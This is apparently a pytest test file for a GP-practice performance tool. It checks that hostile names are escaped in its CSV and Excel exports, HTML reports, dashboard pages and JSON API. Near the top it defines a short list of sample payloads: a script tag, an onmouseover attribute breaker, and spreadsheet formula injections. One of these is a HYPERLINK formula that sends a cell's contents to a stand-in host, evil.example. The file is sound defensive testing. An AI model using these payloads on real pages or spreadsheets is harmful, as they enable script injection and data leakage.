"""Hostile group and practice names (script tags, attribute breakers, spreadsheet formulas) come out inert.

The names go in as a registry would give them (the groups and practices of the evaluation) and are
checked in every output: the bundle's CSV and Excel files, the board pack and national report, every
dashboard page type, its CSV downloads and its JSON API.
"""

from __future__ import annotations

import csv
import functools
import io
import tempfile
import warnings
from pathlib import Path

import openpyxl
import pytest

from gpscale.bundle import Bundle, open_bundle, write_bundle
from gpscale.evaluate.bundle import bundle_meta, make_bundle
from gpscale.export import FORMULA_START
from gpscale.report.board import write_group_report, write_national_report
from tests.unit.web import world as W

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

from gpscale.web.app import create_app

SCRIPT = "<script>alert('x')</script>"
ATTRIBUTE = '" onmouseover="alert(1)" x="'
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(1,2)", "\tcmd", "\rcmd"]
HOSTILE = [SCRIPT, ATTRIBUTE, *FORMULAS]


@functools.cache
def _bundle() -> Bundle:
    groups = W._groups()
    groups["name"] = [*HOSTILE[: len(groups)]]
    practices = W._practices()
    practices.loc[: len(HOSTILE) - 1, "name"] = HOSTILE
    ev = W.evaluation(("scorecard", "trends", "variation"), groups=groups, practices=practices)
    out = Path(tempfile.mkdtemp(prefix="gpscale-hostile-")) / "results"
    write_bundle(make_bundle(ev), out, meta=bundle_meta(ev), excel=True)
    return open_bundle(out)


def _html_is_inert(html: str, where: str) -> None:
    assert SCRIPT not in html, where
    assert "<script>alert" not in html and ATTRIBUTE not in html, where
    assert "onmouseover=" not in html.replace("onmouseover=&#34;", "").replace("onmouseover=&quot;", ""), where


def _csv_is_inert(text: str, where: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            try:
                float(cell)
                continue  # a number, negative ones included, is not a formula
            except ValueError:
                pass
            assert not cell.startswith(FORMULA_START), (where, cell)


def _pages() -> dict[str, str]:
    return {
        "england": "/", "groups": "/groups", "group": "/groups/FED-TEST",
        "group evaluation": "/groups/FED-TEST/evaluation", "indicator": "/indicators/qof_total",
        "members": "/indicators/qof_total?group=FED-TEST", "practice": "/practices/P00001",
        "search": "/search?q=surgery", "api index": "/api",
    }


def test_bundle_csv_and_excel_files_are_inert():
    b = _bundle()
    for name in ("groups", "practices", "summary", "spells"):
        _csv_is_inert((b.folder / f"{name}.csv").read_text(), name)
    book = openpyxl.load_workbook(b.folder / "results.xlsx")
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (sheet.title, cell.value)
                    seen += cell.value.startswith("'=")
    assert seen, "the hostile formula names are in the workbook, neutralised"


def test_reports_are_inert(tmp_path):
    b = _bundle()
    for path in (write_group_report(b, "FED-TEST", tmp_path / "g.html")[0],
                 write_group_report(b, "U00001", tmp_path / "u.html")[0],
                 write_national_report(b, tmp_path / "n.html")[0]):
        html = path.read_text()
        _html_is_inert(html, path.name)
        assert "&lt;script&gt;" in html or "&lt;script" in html or path.name == "g.html"


@pytest.mark.parametrize("page", sorted(_pages()))
def test_every_page_type_is_inert(page):
    client = TestClient(create_app(_bundle(), cache_pages=False))
    r = client.get(_pages()[page])
    assert r.status_code == 200, r.text[:300]
    _html_is_inert(r.text, page)


def test_downloads_and_api_are_inert():
    client = TestClient(create_app(_bundle(), cache_pages=False))
    for url in ("/download/groups.csv", "/download/england.csv", "/download/groups/FED-TEST/members.csv",
                "/download/groups/U00001/scorecard.csv", "/download/indicators/qof_total/funnel.csv",
                "/download/indicators/qof_total/funnel.csv?group=U00001", "/download/practices/P00001/groups.csv"):
        r = client.get(url)
        assert r.status_code == 200, url
        _csv_is_inert(r.text, url)
    names = {g["name"] for g in client.get("/api/v1/groups?limit=500").json()["groups"]}
    assert SCRIPT in names  # JSON carries the text as data; browsers never render it as markup
    assert client.get("/api/v1/groups").headers["content-type"].startswith("application/json")
